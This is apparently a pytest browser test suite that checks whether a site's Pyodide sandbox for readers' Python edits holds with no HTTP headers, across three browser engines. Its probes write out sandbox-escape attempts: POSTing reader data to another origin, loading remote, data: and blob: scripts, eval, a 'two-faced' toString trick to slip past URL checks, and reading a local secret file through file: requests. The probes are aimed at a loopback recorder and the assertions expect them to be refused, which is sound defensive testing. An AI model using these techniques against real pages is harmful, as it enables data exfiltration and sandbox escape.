"""The sandbox of a reader's code holds where no headers are sent (issue 45; the hostile probe
of ../shared/reviews/hostile-round2.md, H-1, M-1, M-2, L-1), in Chromium, Firefox ESR and
WebKitGTK, with the site served as GitHub Pages or `python3 -m http.server` serve it: files
only, no header. A second loopback server stands for "another origin": it records every
request that reaches it, and answers scripts that would say they ran.

What holds is the browser's policy: kernel.js starts the Pyodide worker from a blob: URL, and
such a worker inherits the page's <meta> Content-Security-Policy; lockdown.js is a second
wall (an allow-list of the worker's globals, each URL converted once)."""

from __future__ import annotations

import http.server
import json
import re
import threading
import time

import pytest

import engines
from test_engines import Served

pytestmark = pytest.mark.browser

BOOT_S = 120
# after «Reinicia Python» the fresh worker boots and then reruns every figure (host.js: the
# clock's timings, the model widgets' data fetched again): WebKit on a loaded machine (a busy
# loop on each core) took over 120 s for all of it, though every step was right
RESTART_S = 300
PAGE = "cap15/index.html"
ALL_READY = "() => [...document.querySelectorAll('.tw-widget')].every(w => w.dataset.state === 'ready' && !w.dataset.busy)"
STATES = "() => [...document.querySelectorAll('.tw-widget')].map(w => [w.dataset.widget, w.dataset.state, w.querySelector('.tw-status').textContent])"


class Elsewhere:
    """Another origin (another port of 127.0.0.1): records each request; a script it serves
    would report that it ran, to it and in the worker's global `twRan`."""

    def __init__(self):
        hits = self.hits = []

        class Handler(http.server.BaseHTTPRequestHandler):
            def answer(self):
                length = int(self.headers.get("Content-Length") or 0)
                body = self.rfile.read(length).decode(errors="replace") if length else ""
                hits.append(f"{self.command} {self.path} {body}".strip())
                self.send_response(200)
                self.send_header("Access-Control-Allow-Origin", "*")
                self.send_header("Content-Type", "text/javascript")
                self.end_headers()
                self.wfile.write(b"self.twRan = 'ran';")

            do_GET = do_POST = do_HEAD = do_OPTIONS = answer

            def log_message(self, *args):
                pass

        self.httpd = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.url = f"http://127.0.0.1:{self.httpd.server_port}"
        threading.Thread(target=self.httpd.serve_forever, daemon=True).start()

    def close(self):
        self.httpd.shutdown()
        self.httpd.server_close()


@pytest.fixture(scope="module")
def elsewhere():
    other = Elsewhere()
    yield other
    other.close()


@pytest.fixture(scope="module")
def plain(site):
    """The site as GitHub Pages serves it: files, no headers."""
    served = Served(site, probe=False)
    yield served.url
    served.stop()


@pytest.fixture(params=("chromium", "firefox", "webkit"))
def any_engine(request, launched, elsewhere):
    if request.param == "chromium":
        engine = engines.Chromium(request.getfixturevalue("browser"))
        yield engine
        engine.close()
    else:
        engine = launched(request.param)
        if getattr(engine, "dead", False):
            engine.restart()
        engine.recorder.hits.clear()
        yield engine
        assert engine.recorder.hits == []  # and nothing left 127.0.0.1
    elsewhere.hits.clear()


def wait_ready(engine, timeout: float = BOOT_S) -> None:
    try:
        engine.wait(f"() => ({ALL_READY})() || [...document.querySelectorAll('.tw-widget')].some(w => w.dataset.state === 'error')",
                    timeout=timeout)
    except TimeoutError:
        pass
    assert engine.js(ALL_READY), engine.js(STATES)


# A worker started as kernel.js starts it (a blob: URL, from the site's page, which sends no
# header) tries every route of H-1 with no lock-down at all: the page's policy alone refuses them.
INHERITED = """async (other) => {
  const code = `
    const out = {};
    const attempt = async (name, fn) => { try { await fn(); out[name] = "reached"; } catch (e) { out[name] = "refused"; } };
    (async () => {
      await attempt("fetch", () => fetch("${other}/inherited-fetch"));
      await attempt("xhr", () => { const x = new XMLHttpRequest(); x.open("POST", "${other}/inherited-xhr", false); x.send("secret"); });
      await attempt("importScripts", () => importScripts("${other}/inherited.js"));
      await attempt("importScripts data:", () => importScripts("data:text/javascript,self.twRan='data'"));
      await attempt("importScripts blob:", () => importScripts(URL.createObjectURL(new Blob(["self.twRan='blob'"], {type: "text/javascript"}))));
      await attempt("import()", () => import("${other}/inherited-module.js"));
      await attempt("eval", () => eval("1 + 1"));
      await attempt("Function", () => new Function("return 1")());
      await attempt("FontFace", () => new FontFace("x", "url(${other}/inherited-font.woff2)").load());
      out.ran = String(self.twRan);
      postMessage(out);
    })();`;
  const worker = new Worker(URL.createObjectURL(new Blob([code], {type: "text/javascript"})));
  return await new Promise((resolve) => {
    worker.onmessage = (e) => resolve(e.data);
    worker.onerror = (e) => resolve({worker: "did not start: " + (e.message || "error")});
  });
}"""


def test_the_page_policy_holds_its_blob_workers(any_engine, plain, elsewhere):
    any_engine.goto(plain + PAGE)
    found = any_engine.js(INHERITED, elsewhere.url)
    expected = {name: "refused" for name in ("fetch", "xhr", "importScripts", "importScripts data:", "importScripts blob:",
                                               "import()", "eval", "Function", "FontFace")}
    assert found == {**expected, "ran": "undefined"}, found
    assert elsewhere.hits == []


# Python in the page's worker, as a reader's edit in the «Codi» panel runs: every route the
# hostile probe found (H-1, M-1, L-1) and those around them; each says "reached" or "refused".
PROBE = """
import js, json
from pyodide.ffi import create_proxy
import pyodide_js
OTHER = "ELSEWHERE"
out = {}
def attempt(name, fn):
    try:
        out[name] = "refused" if fn() is None else "reached"
    except BaseException:
        out[name] = "refused"
def two_faced(used):
    calls = [0]
    def face(*_):
        calls[0] += 1
        return js.location.origin + "/index.html" if calls[0] == 1 else used
    u = js.Object.new()
    u.toString = create_proxy(face)
    return u
def xhr():
    x = js.XMLHttpRequest.new()
    x.open("POST", two_faced(OTHER + "/xhr-two-faced"), False)
    x.send("secret=reader-data")
    return None if x.responseURL.startswith(js.location.origin) else x.status
def fetch_by_url():
    o = js.Object.new()
    o.url = js.location.origin + "/"
    o.toString = create_proxy(lambda *_: OTHER + "/fetch-url-mismatch")
    js.fetch(o)
attempt("XMLHttpRequest", xhr)
attempt("fetch", lambda: js.fetch(two_faced(OTHER + "/fetch-two-faced")) and None)
attempt("fetch(url)", fetch_by_url)
attempt("importScripts", lambda: js.importScripts(two_faced(OTHER + "/importScripts.js")))
attempt("importScripts data:", lambda: js.importScripts(two_faced("data:text/javascript,self.twRan='data'")))
attempt("blob: URL", lambda: js.URL.createObjectURL(js.Blob.new(["self.twRan='blob'"])))
attempt("loadPyodide", lambda: js.loadPyodide)
attempt("_createPyodideModule", lambda: js._createPyodideModule)
attempt("Pyodide's loadScript", lambda: pyodide_js._api.loadScript(OTHER + "/loadScript.js"))
attempt("FontFace", lambda: js.FontFace)
attempt("fonts", lambda: js.fonts)
attempt("storageBuckets", lambda: js.navigator.storageBuckets)
attempt("webkitRequestFileSystem", lambda: js.webkitRequestFileSystem)
attempt("webkitRequestFileSystemSync", lambda: js.webkitRequestFileSystemSync)
attempt("locks", lambda: js.navigator.locks)
attempt("navigator.storage", lambda: js.navigator.storage)
attempt("indexedDB", lambda: js.indexedDB)
attempt("caches", lambda: js.caches)
attempt("postMessage", lambda: js.postMessage)
attempt("eval", lambda: js.eval("1 + 1"))
raise RuntimeError("PROBE" + json.dumps(out))
"""
RAN = "import js\nraise RuntimeError('RAN' + str(getattr(js, 'twRan', None)))\n"

EDITED = """async (code, widget) => {
  const k = tw.kernel.get(JSON.parse(document.getElementById('tw-config').dataset.config));
  await k.ready;
  const reply = await k.call('edited', {widget, key: 'prova', code, params: {}});
  return reply.error ? reply.error.message : null;
}"""


def reader_code_reaches_nothing(engine, elsewhere) -> None:
    """The page open, its widgets ready: a reader's edit reaches no other origin, no storage
    and makes no code from text (PROBE), and the widgets stay ready."""
    said = engine.js(EDITED, PROBE.replace("ELSEWHERE", elsewhere.url), "cost")
    found = json.loads(said.split("PROBE", 1)[1])
    assert found and all(v == "refused" for v in found.values()), found
    engine.js("() => new Promise((resolve) => setTimeout(resolve, 1500))")  # what was sent has arrived
    assert engine.js(EDITED, RAN, "cost") == "RANNone"  # no script of another origin or from text ran
    assert elsewhere.hits == []
    assert engine.js(ALL_READY)


# M-2: a hanging edit, «Reinicia Python» on another widget: a fresh worker that does not run the
# edit again (it waits as a draft, as after «Atura»), and every widget computes.
# Stored, then read back by a new document of the origin (a frame, once this task has ended):
# a navigation straight after the write once opened the chapter without it in Firefox (a full
# run, loaded; not reproduced alone), likely as Firefox hands a page's writes on after the task
HANG = """async (key) => {
  localStorage.setItem(key, JSON.stringify({code: "while True:\\n    pass\\n"}));
  await new Promise((r) => setTimeout(r, 0));
  const frame = document.createElement('iframe');
  frame.src = location.href;
  await new Promise((r) => { frame.onload = r; document.body.append(frame); });
  return frame.contentWindow.localStorage.getItem(key) !== null;
}"""
RUN_DRAFT = """async () => {
  const w = document.querySelector('.tw-widget[data-widget="cost"]');
  w.querySelector('.tw-code-toggle').click();
  const until = (f) => new Promise((resolve) => { const t = () => f() ? resolve() : setTimeout(t, 50); t(); });
  await until(() => w.querySelector('.tw-code[data-editor]') && !w.querySelector('.tw-code-run').hidden);
  w.querySelector('.tw-code-run').click();
}"""
HUNG = "() => [...document.querySelectorAll('.tw-widget')].every(w => w.querySelector('.tw-hung button'))"
RESTART = """() => document.querySelector('.tw-widget[data-widget="roofline"] .tw-hung button').click()"""


def test_reader_code_reaches_nothing_and_a_restarted_python_keeps_a_hanging_edit_as_a_draft(any_engine, plain, elsewhere, site):
    """In one visit (a boot of WebKit's costs 15-30 s): the hostile probe's routes from a
    reader's edit (reader_code_reaches_nothing); then M-2, and before it what a stored edit that
    hangs does: it waits as a draft when the page opens; run, every widget says Python stopped
    answering."""
    instance = re.search(r'data-widget="cost" data-instance="([^"]+)"', (site / PAGE).read_text()).group(1)
    # stored from a page of the same origin without Python (one boot fewer than a reload)
    any_engine.goto(plain + "404.html")
    key = f"tw-codi:/{PAGE.removesuffix('index.html')}#{instance}"
    assert any_engine.js(HANG, key) is True
    chromium = isinstance(any_engine, engines.Chromium)
    if chromium:  # its page's clock runs on, and is moved past kernel.js's HANG_MS below (the others wait)
        any_engine.page.clock.install()
    any_engine.goto(plain + PAGE)  # the stored edit is a draft: it does not run by itself
    wait_ready(any_engine)
    cost = '.tw-widget[data-widget="cost"]'
    draft = f"() => [document.querySelector('{cost}').dataset.draft, document.querySelector('{cost}').dataset.edited, document.querySelectorAll('.tw-hung').length]"
    seen = any_engine.js(draft)
    assert seen == ["true", None, 0], (seen, any_engine.js("(key) => [location.href, localStorage.getItem(key)]", key))
    reader_code_reaches_nothing(any_engine, elsewhere)
    any_engine.js(RUN_DRAFT)
    if chromium:
        time.sleep(2)  # a ping has gone out to the worker stuck in the loop (BEAT_MS)
        any_engine.page.clock.fast_forward(10_500)
    any_engine.wait(HUNG, timeout=60)
    try:
        any_engine.js(RESTART)
        restarted_python_answers(any_engine, draft)
    finally:
        any_engine.end_stopped_workers()  # «Reinicia Python» stopped one inside `while True`


def restarted_python_answers(any_engine, draft: str) -> None:
    """After «Reinicia Python»: the hanging edit waits as a draft, the status says why, and the
    fresh worker computes a change of another widget."""
    cost = '.tw-widget[data-widget="cost"]'
    wait_ready(any_engine, RESTART_S)
    assert any_engine.js(draft)[:2] == ["true", None]
    status = any_engine.js(f"() => document.querySelector('{cost} .tw-code-status').textContent")
    assert "no responia" in status and "visita anterior" not in status, status
    # the fresh worker answers: a change of another widget is computed, and nothing hangs again
    assert any_engine.js("""async () => {
      const w = document.querySelector('.tw-widget[data-widget="roofline"]');
      const before = w.dataset.values;
      const select = w.querySelector('select[name=model]');
      select.value = [...select.options].map((o) => o.value).find((v) => v !== select.value);
      select.dispatchEvent(new Event('input', {bubbles: true}));
      const t0 = Date.now();
      while (Date.now() - t0 < 90000) {
        if (w.dataset.values !== before && w.dataset.state === 'ready' && !w.dataset.busy) return true;
        await new Promise((r) => setTimeout(r, 50));
      }
      return false;
    }""")
    assert any_engine.js("() => document.querySelectorAll('.tw-hung').length") == 0


# L-6: the single file opened from disk, whose own policy must allow the worker's blob: scripts
# (single_file.py): an edit can make no blob: URL, reach no loader, and read no other local file.
FROM_DISK = """
import js, json
out = {}
def attempt(name, fn):
    try:
        out[name] = "refused" if fn() is None else "reached"
    except BaseException:
        out[name] = "refused"
attempt("blob: URL", lambda: js.URL.createObjectURL(js.Blob.new(["self.twRan = 1"])))
attempt("loadPyodide", lambda: js.loadPyodide)
attempt("twExport", lambda: js.twExport)
attempt("importScripts file:", lambda: js.importScripts("LOCAL"))
def xhr():
    x = js.XMLHttpRequest.new()
    x.open("GET", "LOCAL", False)
    x.send()
    return x.responseText or None
attempt("XMLHttpRequest file:", xhr)
raise RuntimeError("PROBE" + json.dumps(out))
"""


def test_from_disk_an_edit_makes_no_script_and_reads_no_local_file(browser, site, tmp_path):
    """In Chromium; Firefox and WebKit walk it in test_engines' one visit to the single file
    (test_the_single_file_is_interactive_from_disk), where a boot from the file is dear."""
    from build_hooks.export import downloads

    engine = engines.Chromium(browser)
    try:
        single = tmp_path / "cap15.html"
        single.write_bytes((site / "cap15" / downloads.FILE).read_bytes())
        engine.goto(single.as_uri())
        wait_ready(engine)
        edit_from_disk_is_refused(engine, tmp_path)
    finally:
        engine.close()


def edit_from_disk_is_refused(engine, folder) -> None:
    """The single file open from `folder`, its widgets ready: an edit reaches none of FROM_DISK's
    routes, and no script of another file runs."""
    secret = folder / "altre" / "secret.js"
    secret.parent.mkdir(exist_ok=True)
    secret.write_text("self.twRan = 'local';")
    said = engine.js(EDITED, FROM_DISK.replace("LOCAL", secret.as_uri()), "cost")
    found = json.loads(said.split("PROBE", 1)[1])
    assert found == dict.fromkeys(("blob: URL", "loadPyodide", "twExport", "importScripts file:", "XMLHttpRequest file:"),
                                  "refused"), found
    assert engine.js(EDITED, RAN, "cost") == "RANNone"
